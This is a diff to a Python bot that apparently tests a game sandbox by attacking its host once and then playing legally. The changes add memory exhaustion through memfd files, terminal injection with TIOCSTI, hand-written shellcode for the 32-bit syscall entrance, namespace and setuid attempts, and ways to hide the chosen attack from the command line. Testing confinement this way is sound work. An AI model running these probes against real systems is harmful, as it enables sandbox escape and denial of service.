@@ -1,7 +1,9 @@
 """A bot that attacks the machine it runs on, once, at its first turn, and plays legally otherwise.
 
-    attacker.py [--token TEXT] ATTACK [ARGUMENTS...]
+    attacker.py [--token TEXT] [ATTACK [ARGUMENTS...]]
 
+Without an attack it is in `attack.json` beside this file, a list of the same texts: a sandbox may show a bot
+what its command line names, and then nothing that is named there is a secret.
 Before its first reply it carries out one attack and writes one line to its standard error,
 `{"attack": NAME, "got": {what was measured}}`; attacks that it does not survive are reported before they
 begin.  The token means nothing to it: whoever looks at its command line from outside finds it by that.
@@ -528,7 +530,11 @@ def process_ids() -> list[int]:
 
 @attack("see-processes")
 def see_processes(marker: str) -> Got:
-    """Which processes are there, and is one with this word on its command line among them."""
+    """Which processes are there, and is one with this word on its command line among them.
+
+    The word is given in reverse, since our own command line is on that of whatever confines us.
+    """
+    marker = marker[::-1]
     own = os.getpid()
     lines = {process: text_of(f"/proc/{process}/cmdline") for process in process_ids() if process != own}
     return {
@@ -835,18 +841,20 @@ def memory_zero_device(megabytes: str) -> Got:
 
 @attack("memory-file")
 def memory_file(megabytes: str) -> Got:
-    """A file that exists in memory alone (memfd_create)."""
+    """Files that exist in memory alone (memfd_create), 32 MB each."""
+    block, written, error = b"x" * MEGABYTE, 0, DONE
+    files: list[int] = []
     try:
-        descriptor = system_call("memfd_create", b"attack", 0)
-    except OSError as error:
-        return {"held_mb": 0, "error": error_name(error)}
-    block, written = b"x" * MEGABYTE, 0
-    with contextlib.suppress(OSError):
         while written < min(int(megabytes), MEMORY_CAP_MB) * MEGABYTE:
-            written += os.write(descriptor, block)
+            files.append(system_call("memfd_create", b"attack", 0))
+            for _ in range(32):
+                written += os.write(files[-1], block)
+    except OSError as reason:
+        error = error_name(reason)
     time.sleep(HOLD_S)
-    os.close(descriptor)
-    return {"held_mb": written // MEGABYTE}
+    for descriptor in files:
+        os.close(descriptor)
+    return {"held_mb": written // MEGABYTE, "error": error}
 
 
 @attack("memory-in-files")
@@ -1101,11 +1109,11 @@ def terminal(namespace: str) -> Got:
         return system_call("ioctl", descriptor, request, ctypes.c_char_p(b" "))
 
     def on_own(request: int) -> None:
+        signal.signal(signal.SIGHUP, signal.SIG_IGN)  # at the end of the session
         os.setsid()
-        leader, follower = pty.openpty()
+        _, follower = pty.openpty()
         fcntl.ioctl(follower, 0x540E, 0)  # TIOCSCTTY
         ask(follower, request)
-        os.close(leader)
 
     attempts = {
         "own": in_child(lambda: on_own(push)),
@@ -1133,15 +1141,16 @@ def clone3_user_namespace() -> None:
     os.waitpid(process, 0)
 
 
-def other_entrance(number: int, value: int) -> None:
+def other_entrance(number: int, first: int, second: int) -> None:
     """A system call by the 32-bit entrance, whose numbers are others."""
     if platform.machine() != "x86_64":
         raise OSError(errno.ENOSYS, "this machine has no such entrance")
-    code = bytes.fromhex("53 89f8 89f3 cd80 5b c3")  # push rbx; eax = edi; ebx = esi; int 0x80; pop rbx; ret
+    # push rbx; eax = edi; ebx = esi; ecx = edx; edx = 1; int 0x80; pop rbx; ret
+    code = bytes.fromhex("53 89f8 89f3 89d1 ba01000000 cd80 5b c3")
     page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     page.write(code)
     address = ctypes.addressof(ctypes.c_char.from_buffer(page))
-    result = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(number, value)
+    result = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 3)(address)(number, first, second)
     if result < 0:
         raise OSError(-result, os.strerror(-result))
 
@@ -1205,12 +1214,12 @@ CALLS: dict[str, Callable[[], object]] = {
     "setns 1": lambda: enter_namespaces(1),
     "setns parent": lambda: enter_namespaces(os.getppid()),
     "setuid": lambda: become(0),
-    "thirty-two": lambda: other_entrance(310, CLONE_NEW_USER),
+    "thirty-two": lambda: other_entrance(288, 0, -3),
     "unshare user": lambda: system_call("unshare", CLONE_NEW_USER),
     "unshare mount": lambda: system_call("unshare", 0x20000),
     "unshare network": lambda: system_call("unshare", 0x40000000),
     "userfaultfd": lambda: system_call("userfaultfd", os.O_CLOEXEC),
-    "x32": lambda: numbered_call(0x40000000 + 272, CLONE_NEW_USER),
+    "x32": lambda: numbered_call(0x40000000 + 250, 0, -3, 1),
 }
 
 
@@ -1546,7 +1555,9 @@ def main() -> None:
     arguments = sys.argv[1:]
     if arguments[:1] == ["--token"]:
         arguments = arguments[2:]
-    name = arguments[0] if arguments else ""
+    if not arguments:
+        arguments = json.loads((Path(own_directory()) / "attack.json").read_text())
+    name = arguments[0]
     if name not in ATTACKS and name not in EARLY and name != "never-start":
         sys.exit(f"no such attack: {name}; there are {', '.join(sorted([*ATTACKS, *EARLY, 'never-start']))}")
     Bot(name, arguments[1:]).run()
